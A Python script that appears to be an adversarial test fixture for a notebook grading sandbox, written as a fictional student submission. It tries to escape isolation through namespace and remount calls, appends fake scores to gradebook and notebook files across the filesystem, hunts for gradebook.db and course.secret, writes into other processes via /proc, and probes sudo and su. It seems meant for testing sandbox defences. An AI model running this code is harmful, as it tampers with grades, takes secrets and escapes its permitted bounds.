# Écrit dans tous les dossiers qu'il peut, remonte les disques, lit ce qui l'entoure ; ses deux premières réponses sont honnêtes.
# base: release
# answers: q1_1 q1_2
# earns: test_q1_1 1, test_q1_2 3
# %% after q1_1
import ctypes
import os
import subprocess

NOM = "ecrit-par-un-eleve-fictif"
libc = ctypes.CDLL(None, use_errno=True)
for drapeau in (0x10000000, 0x00020000, 0x10000000 | 0x00020000, 0x40000000):  # user, mnt, pid
    libc.unshare(drapeau)
for cible in ("/", "/usr", "/etc", "/lib", os.path.dirname(os.__file__), os.getcwd()):
    # MS_REMOUNT | MS_BIND, sans MS_RDONLY.
    libc.mount(b"none", cible.encode(), None, 32 | 4096, None)
    libc.umount2(cible.encode(), 2)
ecrits, secrets = [], []
for racine, dossiers, fichiers in os.walk("/"):
    if racine.startswith(("/proc/", "/sys/")):
        dossiers.clear()
        continue
    for chemin in (os.path.join(racine, NOM), *(os.path.join(racine, f) for f in fichiers if f.endswith((".db", ".ipynb", ".csv", ".pth")))):
        try:
            with open(chemin, "a") as sortie:
                sortie.write("score: 20\n")
            ecrits.append(chemin)
        except OSError:
            pass
    if "site-packages" not in racine:  # nbgrader y apporte un gradebook.db pour ses propres tests
        secrets += [os.path.join(racine, f) for f in fichiers if f in ("gradebook.db", "course.secret")]
for pid in filter(str.isdigit, os.listdir("/proc")):
    for dossier in ("root", "cwd"):
        for suite in ("gradebook.db", f"tmp/{NOM}", f"home/{NOM}", f"root/{NOM}"):
            try:
                open(f"/proc/{pid}/{dossier}/{suite}", "a").write("20")
            except OSError:
                pass
print("écrits :", ecrits)
print("secrets :", secrets)
print(subprocess.run("sudo -n true; su -c id root; mount; cat /proc/self/status | grep Cap", shell=True, capture_output=True, text=True).stdout)
